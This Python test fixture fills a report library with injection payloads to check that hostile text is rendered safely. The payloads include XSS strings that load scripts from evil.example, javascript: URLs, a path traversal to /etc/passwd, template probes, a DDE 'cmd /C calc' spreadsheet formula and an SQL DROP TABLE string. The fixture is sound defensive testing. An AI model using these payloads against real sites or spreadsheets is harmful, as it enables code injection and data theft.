"""Texts that would do something if a page took them for more than text, and a library full of them.

`evil.example` is where they would ask, `pwned` what they would call. Each ends in a mark of its own,
so that it is found again wherever it is shown.
"""

from collections.abc import Iterator
from dataclasses import replace
from itertools import cycle
from pathlib import Path
from typing import Final

from form.editions import TABLE_KEYS, table
from form.report import Cell, Note, Paragraph, Report
from library.importing import import_file
from library.saving import Reading
from library.store import Library
from tests.library.made import made_report

_HTML: Final = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src=//evil.example/a.png>",
    '"><svg onload=pwned()>',
    "'><svg/onload=pwned()>",
    "' onmouseover='pwned()",
    '" autofocus onfocus="pwned()',
    "</td></tr></table><iframe src=//evil.example>",
    "</style><style>@import url(//evil.example/a.css)</style>",
    "</script><script src=//evil.example/a.js></script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "<!--",
    "<![CDATA[<script>pwned()</script>]]>",
    "<b>",
    "<a href=javascript:pwned()>甲</a>",
    "<a href=//evil.example>甲</a>",
    "<form action=//evil.example><button>甲</button></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<object data=//evil.example></object>",
    "<video src=//evil.example onloadstart=pwned()>",
    "<math><mtext><img src=x onerror=pwned()></mtext></math>",
    "<details open ontoggle=pwned()>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "＜script＞pwned()＜/script＞",
    "<sub>下</sub><br>",
)
_MARKDOWN: Final = (
    "![甲](http://evil.example/a.png)",
    "[甲](http://evil.example)",
    "[甲](javascript:pwned())",
    "<http://evil.example>",
    "http://evil.example/auto",
    "//evil.example",
    "**粗**",
    "_斜_ *斜*",
    "`码`",
    "~~删~~",
    "# 题",
    "- 项",
    "> 引",
    "1. 项",
    "| 表 | 格 |",
    "$\\frac{1}{2}$",
    "$$\\href{http://evil.example}{甲}$$",
    ":red[红]",
    ":material/home:",
    ":smile:",
    ":small[小]",
    "[^1]",
    "***",
)
_ADDRESSES: Final = (
    "javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "../../../etc/passwd",
    "?agency=别的&year=2020",
    "#片段",
    "%3Cscript%3Epwned()%3C/script%3E",
    "甲&finding=2",
)
_TEMPLATES: Final = (
    "{agency}",
    "{0.__class__}",
    "{{7*7}}",
    "${7*7}",
    "%s %d",
    "%(year)s",
    "{% raw %}",
    "<%= 7*7 %>",
    "%{customdata[0]}",
)
_FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example")',
    "＝1+1",
    "=cmd|' /C calc'!A1",
    "\t=1+1",
)
_ODD: Final = ("\u202e反", "甲\u200b乙", "'; DROP TABLE report; --", '"', "'", "\\", "甲" * 300)


def _marked() -> Iterator[str]:
    for number, text in enumerate(
        (*_HTML, *_MARKDOWN, *_ADDRESSES, *_TEMPLATES, *_FORMULAS, *_ODD)
    ):
        yield f"{text}§{number:02}"


PAYLOADS: Final = tuple(_marked())


SEVERAL_YEARS: Final = 12
"""So many agencies have reports of two years."""


def _report(number: int, agency: str, year: int) -> Report:
    """Every sort of text that a report has is a payload; sums fail, so that it is also spoken of."""
    edition = "2021" if number % 2 else "2019"
    report = made_report(agency, year, edition=edition)
    others = cycle(PAYLOADS[number:] + PAYLOADS[:number])
    cells = dict(report.cells)
    # Every second report has figures in section 四: the page about it names no others.
    for key in TABLE_KEYS if number % 2 else TABLE_KEYS[:2]:
        for place in list(table(key, edition).addresses())[3::5]:
            text = next(others)
            cells[place] = replace(Cell(None, "text", text), place=report.cells[place].place)
    paragraphs = [
        Paragraph(1 + at % 6, f"收到申请{at}件，{text}。") for at, text in enumerate(PAYLOADS)
    ]
    notes = (Note("see", f"{next(others)}", ("applications.new_received.total",)),)
    return replace(
        report, cells=cells, paragraphs=tuple(paragraphs), notes=notes, title=next(others)
    )


def hostile_library(home: Path) -> None:
    """Fill a library with reports of agencies, files and people who are all called like that."""
    with Library(home=home) as library:
        for number, text in enumerate(PAYLOADS):
            for year in (2022, 2023) if number < SEVERAL_YEARS else (2023,):
                data = f"{number} {year}".encode()
                found = Reading("txt", (_report(number, text, year),))
                import_file(library, f"{text}.txt", data, read=lambda *_, told=found: told)
        queued = Reading("txt", (replace(_report(0, "甲", 2023), agency=None),))
        import_file(library, f"{PAYLOADS[1]}.txt", b"queued", read=lambda *_: queued)
        ids = {int(number): line for number, line in library.reports().iterrows() if line["counts"]}
        for number in list(ids)[:6]:
            where = "applications.new_received.natural_person"
            seen = library.report(number).cells[where]
            text = PAYLOADS[number % len(PAYLOADS)]
            library.log.correct(number, where, "2", seen, text, text)
